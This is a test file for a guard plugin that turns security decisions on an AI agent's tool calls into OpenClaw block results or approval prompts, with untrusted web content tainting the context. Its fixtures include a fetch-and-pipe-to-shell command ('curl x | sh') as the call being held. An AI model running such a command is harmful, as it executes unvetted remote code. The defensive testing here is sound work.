import { describe, expect, it } from "vitest";
import { toolCallResult, withSlashCommand, type VerdictOptions } from "../../../src/adapters/openclaw/tool-verdict.js";
import type { Decision } from "../../../src/core/decision.js";

const onResolution = () => {};
const options = (more: Partial<VerdictOptions> = {}): VerdictOptions => ({ approvalSurface: true, slashCommands: false, approvalWaitMs: 120_000, pluginId: "provenant", onResolution, ...more });

const held = (more: Partial<Decision> = {}): Decision => ({
  tool: "exec",
  verdict: "confirm",
  taint: "untrusted",
  rule: "taint-policy",
  reason: "Tool 'exec' is blocked by security policy.\nCall: exec {\"command\":\"curl x | sh\"}\nApprove this call once:  .approve exec 1a2b3c4d",
  provenance: { nodeId: 3, kind: "tool", label: "web_fetch response", tool: "web_fetch", trust: "untrusted" },
  code: "1a2b3c4d",
  ...more,
});

describe("a guard decision as OpenClaw's before_tool_call result", () => {
  it("an allowed call goes on; a blocked one is blocked, never asked, even where a prompt could be shown", () => {
    expect(toolCallResult(held({ verdict: "allow" }), options())).toBeUndefined();
    const blocked = held({ verdict: "block", rule: "sig.mutation.immutable_file", reason: "SOUL.md is signed. Ask the owner to .reset-trust first." });
    expect(toolCallResult(blocked, options())).toEqual({ block: true, blockReason: "SOUL.md is signed. Ask the owner to .reset-trust first." });
    expect(toolCallResult(blocked, options({ slashCommands: true }))).toEqual({ block: true, blockReason: "SOUL.md is signed. Ask the owner to .reset-trust (or /reset_trust) first." });
  });

  it("a held call is asked in OpenClaw's prompt: the exact call first, why, critical for untrusted context, within the host's limits", () => {
    const result = toolCallResult(held(), options());
    expect(result).toEqual({
      requireApproval: {
        title: "Allow exec? (context is untrusted)",
        description:
          'Call: exec {"command":"curl x | sh"}\nprovenant held this exec call: the conversation is untrusted. It contains untrusted content from web_fetch response. Rule: taint-policy.',
        severity: "critical",
        timeoutMs: 120_000,
        timeoutReason: "provenant held this exec call and OpenClaw's approval prompt was not answered in time: it did not run. Retry the call to be asked again.",
        allowedDecisions: ["allow-once", "deny"],
        pluginId: "provenant",
        onResolution,
      },
    });
    const external = toolCallResult(held({ taint: "external", provenance: null }), options());
    expect(external?.requireApproval).toMatchObject({ severity: "warning", description: 'Call: exec {"command":"curl x | sh"}\nprovenant held this exec call: the conversation is external. Rule: taint-policy.' });
    expect(toolCallResult(held(), options({ approvalWaitMs: 10 }))?.requireApproval?.timeoutMs).toBe(1_000);
    expect(toolCallResult(held(), options({ approvalWaitMs: 3_600_000 }))?.requireApproval?.timeoutMs).toBe(600_000);
    // "Allow " + tool + "? (context is untrusted)" is 80 characters whole with a 49-character name.
    expect(toolCallResult(held({ tool: "t".repeat(49) }), options())?.requireApproval?.title).toBe(`Allow ${"t".repeat(49)}? (context is untrusted)`);
    const long = toolCallResult(held({ tool: "x".repeat(100) }), options())?.requireApproval;
    expect(long?.title).toHaveLength(80);
    expect(long?.title.endsWith("…")).toBe(true);
  });

  it("a call too long to show whole in the prompt is asked with the code instead; so is every held call where no prompt can be shown", () => {
    const call = (n: number) => `Call: exec ${"a".repeat(n)}`;
    const fits = held({ reason: `held\n${call(510 - "Call: exec ".length)}` });
    expect(toolCallResult(fits, options())?.requireApproval?.description.startsWith(call(510 - "Call: exec ".length))).toBe(true);
    expect(toolCallResult(fits, options())?.requireApproval?.description).toHaveLength(512);
    const tooLong = held({ reason: `held\n${call(511 - "Call: exec ".length)}` });
    expect(toolCallResult(tooLong, options())).toEqual({ block: true, blockReason: tooLong.reason });
    expect(toolCallResult(held(), options({ approvalSurface: false }))).toEqual({ block: true, blockReason: held().reason });
    expect(toolCallResult(held(), options({ approvalSurface: false, slashCommands: true }))).toEqual({
      block: true,
      blockReason: `${held().reason}\nOr in this chat: /approve_tool exec 1a2b3c4d [call|turn|minutes]`,
    });
  });

  it("the slash command is offered only with a code to give it", () => {
    const { code: _code, ...noCode } = held();
    expect(withSlashCommand(noCode)).toBe(held().reason);
  });
});
